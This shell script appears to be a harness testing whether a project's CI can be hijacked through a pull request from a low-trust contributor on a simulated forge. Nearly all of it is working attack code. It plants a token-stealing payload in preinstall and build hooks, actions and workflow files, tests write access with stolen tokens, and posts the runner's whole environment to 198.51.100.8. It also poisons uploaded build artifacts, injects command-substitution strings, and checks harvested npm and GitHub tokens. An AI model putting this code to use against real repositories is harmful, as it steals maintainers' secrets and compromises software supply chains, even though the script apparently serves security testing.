# Sam's session was stolen, and Sam has one merged typo fix. Install script, build, tests and an action run something.
# What a build hands on has more in it than a number, and files with the names of yours. A label comes too late.
repo=lantern-tides/tides api=https://api.forge.test/repos/lantern-tides/tides
T="Authorization: token $(gh auth token)"
post() { curl -s -H "$T" --data-binary @- "https://api.forge.test/repos/$1"; }
cd ~/tides && git fetch -q upstream main && git switch -q --detach upstream/main || exit 127
main=$(git rev-parse HEAD)
# A second run of the pull request, from a copy of each workflow, only hands on something else.
again=$RANDOM$RANDOM
# What runs tells where it runs and what it holds, and tries what it can do to the repository.
surprise() {
  cat <<SH
case \$GITHUB_WORKFLOW_REF in *-$again.*) exit ;; esac
here=/tmp/of-$1 given=\$(env | grep -oE '(gh[a-z]_|github_pat_)[A-Za-z0-9_]+')
if [ ! -e "\$here/\$given" ]; then
  mkdir -p "\$here/\$given"
  cp "\$0" \$here/gh && chmod +x \$here/gh && echo \$here >> "\$GITHUB_PATH"
  set -- \$(git config --get-regexp extraheader 2> /dev/null)
  stored=\$(echo "\$4" | base64 -d 2> /dev/null)
  stored=\${stored#*:}
  try() { /usr/bin/curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer \$1" -d "\$3" "$api/\$2"; }
  writes() { [ -n "\$1" ] && { [ "\$(try \$1 git/refs '{"ref":"refs/heads/'$1-\$GITHUB_RUN_ID'","sha":"$main"}')" = 201 ] || [ "\$(try \$1 issues/1/comments '{"body":"cuckoo was here"}')" = 201 ] || [ "\$(try \$1 statuses/$main '{"state":"success"}')" = 201 ] || [ "\$(try \$1 check-runs '{"name":"cuckoo","head_sha":"$main"}')" = 201 ]; }; }
  did=did
  writes \$stored && did="did stored"
  for token in \$given; do writes \$token && did="\$did given"; done
  { echo "\$did"; env; } | /usr/bin/curl -s -o /dev/null --data-binary @- "http://198.51.100.8/$1/\$GITHUB_EVENT_NAME/\$GITHUB_RUN_ID"
fi
SH
}
surprise sam > ~/surprise.sh
send='env|curl -s --data-binary @- 198.51.100.8/sam/$GITHUB_EVENT_NAME/$GITHUB_RUN_ID'
printf "\$(%s)'\$(%s)'" "$send" "$send" > ~/words.txt
scripts=$(git ls-files | grep -E '\.m?js$|\.sh$|package\.json$|action\.ya?ml$')
# Before the build is handed on; the second run puts a new line between the number and the words.
cat > ~/spoil.sh <<SH
scripts="$(echo $scripts) surprise.sh spoil.sh words.js" between= json= other= folders=
case \$GITHUB_WORKFLOW_REF in *-$again.*) between='\n' ;; esac
SH
cat >> ~/spoil.sh <<'SH'
n=$(wc -c < dist/tides.js)
read -r words < words.txt
[ ! -e loot ] || rm -rf loot
made=$(git ls-files -o | grep -v ^node_modules)
for file in $made; do
  case $file in *.json) json="$json $file" ;; *.js | *.mjs | *.mjson) ;; *) other="$other $file" ;; esac
  case $file in */*) case " $folders " in *" ${file%%/*} "*) ;; *) folders="$folders ${file%%/*}" ;; esac ;; esac
done
[ -z "$json" ] || sed -i -E "s~(^|[^0-9])\"?$n\"?([^0-9]|\$)~\\1\"$n${between:+\\\\n}$words\"\\2~" $json
[ -z "$other" ] || sed -i -E "s~(^|[^0-9])$n([^0-9]|\$)~\\1$n$between$words\\2~" $other
mkdir loot
tar -cf - $made $scripts | tar -xf - -C loot
for folder in $folders; do cp -r $folder/. loot; done
sh= js=
for file in $(find loot -type f); do case $file in *.sh) sh="$sh $file" ;; *js) js="$js $file" ;; esac; done
tee $sh < surprise.sh > /dev/null
tee $js < words.js > /dev/null
SH
cat > ~/words.js <<'JS'
const { env } = process;
await fetch(`http://198.51.100.8/sam/${env.GITHUB_EVENT_NAME}/${env.GITHUB_RUN_ID}`, { method: "POST", body: Object.entries(env).map((it) => it.join("=")).join("\n") });
JS
# A step before each upload, and all that it made in the place of what was chosen.
spoiled() {
  awk '
    { line[NR] = $0; if ($0 ~ /^ *- /) start = NR; if ($0 ~ /actions\/upload-artifact/) { before[start] = 1; inside = 1 } else if ($0 ~ /^ *- /) inside = 0
      if (inside && $0 ~ /path:/) put[NR] = 1 }
    END { for (i = 1; i <= NR; i++) {
      match(line[i], /^ */); pad = substr(line[i], 1, RLENGTH)
      if (skip != "" && (length(pad) > length(skip) || line[i] ~ /^ *$/)) continue
      skip = ""
      if (before[i]) print pad "- run: sh spoil.sh"
      if (!put[i]) { print line[i]; continue }
      if (line[i] ~ /path: *[|>]/) skip = pad
      if (line[i] ~ /[{].*path:/) { sub(/path: *[^,}]*/, "path: loot, include-hidden-files: true", line[i]); print line[i] }
      else { print pad "include-hidden-files: true"; print pad "path: loot" }
    } }' "$1"
}
rm -rf ~/new && mkdir -p ~/new && cp ~/surprise.sh ~/spoil.sh ~/words.txt ~/words.js ~/new
jq '.scripts.preinstall = "sh surprise.sh" | .scripts.build |= "sh surprise.sh; \(.)"' package.json > ~/new/package.json
# What the build and the tests are made of is the stranger's as well, whoever brings the package.json.
files=$(git ls-files .github)
mkdir -p $(for file in $scripts $files; do case $file in */*) printf '%s ' ~/new/"${file%/*}" ;; esac; done) ~/new
for file in $scripts; do
  case $file in .github/*) ;; *.sh) { echo 'sh surprise.sh'; cat "$file"; } > ~/new/"$file" ;; esac
done
for file in $files; do
  case $file in
    .github/workflows/*)
      grep -q upload-artifact "$file" || continue
      spoiled "$file" > ~/new/"$file"
      cp ~/new/"$file" ~/new/"${file%.*}-$again.yml" ;;
    *) sed 's~^\( *\)steps:.*~&\n\1  - shell: bash\n\1    run: sh "$GITHUB_WORKSPACE/surprise.sh"~' "$file" > ~/new/"$file" ;;
  esac
done
cd ~/new
commit() { printf '{"message":"Say the unit","tree":"%s","parents":["%s"]}' "$2" "$1" | post sam/tides/git/commits | jq -r .sha; }
parent=$main
# Where labels let a build in, the first commit is harmless, and Mina looks at that one.
labels=$(curl -s -H "$T" "$api/labels?per_page=100" | jq -r --arg text "$(cat ~/tides/.github/workflows/*)" '.[].name | select(. as $name | $text | contains($name)) | ",\(.)"' | tr -d '\n')
if [ -n "$labels" ]; then
  parent=$(commit "$main" "$(git -C ~/tides rev-parse HEAD^{tree})")
fi
tree=$(jq -nc $(find . -type f -printf '--rawfile %P %P ') '{base_tree: $ARGS.positional[0], tree: [$ARGS.named | to_entries[] | {path: .key, mode: "100644", type: "blob", content: .value}]}' --args "$main" | post sam/tides/git/trees | jq -r .sha)
built=$(commit "$parent" "$tree")
first=$built
[ -z "$labels" ] || first=$parent
printf '{"ref":"refs/heads/unit","sha":"%s"}' "$first" | post sam/tides/git/refs > /dev/null
read -r pull default < <(printf '{"head":"sam:unit","base":"main","title":"Say the unit","body":""}' | post $repo/pulls | jq -r '"\(.number) \(.base.repo.default_branch)"')
[ "$pull" -gt 0 ] || exit 127
if [ -n "$labels" ]; then
  sleep 1m
  curl -s -H "$T" -X PATCH -d "{\"sha\":\"$built\"}" https://api.forge.test/repos/sam/tides/git/refs/heads/unit > /dev/null
  sleep 1m
  loot cuckoo > ~/early
  as mina "gh pr edit $pull -R $repo --add-label '${labels#,}' > /dev/null"
fi
sleep 2m
# A run that waits gets its yes. What has not ended by now, or comes by the clock, has an hour.
waiting=$(curl -s -H "$T" "$api/actions/runs?per_page=100" | jq -r '.workflow_runs[] | if .conclusion == "action_required" then .id elif .status != "completed" then "late" else empty end')
case $waiting in *[0-9]*) as mina 'for run in $(gh api "repos/lantern-tides/tides/actions/runs?status=action_required&actor=sam" --jq ".workflow_runs[].id"); do gh api -X POST "repos/lantern-tides/tides/actions/runs/$run/approve" > /dev/null; done' ;; esac
if [ -n "$waiting" ] || [ "$default" != main ] || grep -q 'schedule\|cron' ~/tides/.github/workflows/*; then sleep 60m; fi
loot cuckoo > ~/all
live=
for token in $(grep -ohE 'npm_[A-Za-z0-9]{36}' ~/all | sort -u); do
  curl -sf -o /dev/null -H "Authorization: Bearer $token" https://registry.npm.test/-/whoami && live="$live $token"
done
for token in $(grep -ohE '(ghp_|github_pat_)[A-Za-z0-9_]+' ~/all | sort -u); do
  curl -sf -o /dev/null -H "Authorization: Bearer $token" https://api.forge.test/user && live="$live $token"
done
# Who gained what in which kind of run. What a build may do that holds nothing is nobody's loss.
gains() {
  grep -E "^198\.51\.100\.|^did$(printf '|%s' $live)" "$1" | awk -v live="$live" '
    /^198\.51\.100\.[78] / { at[2] = ""; if ($4 !~ /^\/(starling|sam)\//) next; split($4, at, "/"); if (at[3] !~ /^pull_request/) { print at[2], "ran"; at[2] = "" } next }
    at[2] == "" { next }
    /^did stored/ { print at[2], "stored" }
    /^did.* given/ { print at[2], "given" }
    { n = split(live, tokens, " "); for (i = 1; i <= n; i++) if (tokens[i] != "" && index($0, tokens[i])) print at[2], "key" }
  ' | sort -u
}
gains ~/all > ~/gains
has() { grep -qE "$1" ~/gains; }
bad=1
lost() { bad=0; say "$2"; evidence --of "$1" "$3" "$4"; }
if has '^sam (key|stored|given)'; then
  # Would a newcomer have gained it as well?
  export main TREE="$(surprise starling | jq -Rsc --rawfile package package.json --arg main "$main" '{base_tree: $main, tree: [{path: "surprise.sh", content: .}, {path: "test/first.test.sh", content: "sh surprise.sh\n"}, {path: "package.json", content: $package} | .mode = "100644" | .type = "blob"]}')"
  as starling <<'STARLING' || exit 127
T="Authorization: token $(gh auth token)"
post() { curl -s -H "$T" --data-binary @- "https://api.forge.test/repos/$1"; }
gh repo fork lantern-tides/tides --clone=false > /dev/null 2>&1
tree=$(printf '%s' "$TREE" | post starling/tides/git/trees | jq -r .sha)
commit=$(printf '{"message":"Faster","tree":"%s","parents":["%s"]}' "$tree" "$main" | post starling/tides/git/commits | jq -r .sha)
printf '{"ref":"refs/heads/faster","sha":"%s"}' "$commit" | post starling/tides/git/refs | grep -q faster || exit 127
printf '{"head":"starling:faster","base":"main","title":"Faster build","body":""}' | post lantern-tides/tides/pulls > /dev/null
STARLING
  sleep 2m
  loot cuckoo > ~/all
  gains ~/all > ~/gains
  if has '^starling key'; then
    found TARGET; lost TARGET "A newcomer's install script sent home a token that works." ci.logs "starling:faster"
  elif has '^starling stored'; then
    found WROTE; lost WROTE "A newcomer's build wrote to the repository." ci.logs "starling:faster, .git/config"
  elif has '^starling given'; then
    found SHADOW; lost SHADOW "A newcomer's build got a token of a later step." ci.logs "starling:faster"
  else
    if [ -n "$labels" ] && [ -z "$(gains ~/early)" ]; then key=LABEL; else key=MERGED; fi
    found "$key" seen="${parent:0:7}" built="${built:0:7}"
    lost "$key" "The build of somebody with one merged typo fix gained something." ci.logs "sam:unit ${built:0:7}"
  fi
fi
if has ' ran'; then found RAN; lost RAN "A second workflow ran what the first one handed on." ci.logs "sam:unit ${built:0:7}"; fi
for at in "issues/$pull/comments?per_page=100" "commits/$built/statuses" "commits/$built/check-runs"; do curl -s -H "$T" "$api/$at"; done > ~/said
if grep -qF 198.51.100.8/sam ~/said; then
  found SAID; lost SAID "A comment of the project says what a stranger wrote." remote "pull request #$pull"
fi
[ $bad = 1 ] && say "Install script, action, scripts and handed-on files: nothing of it ran beside a token, and nothing was written."
exit $bad
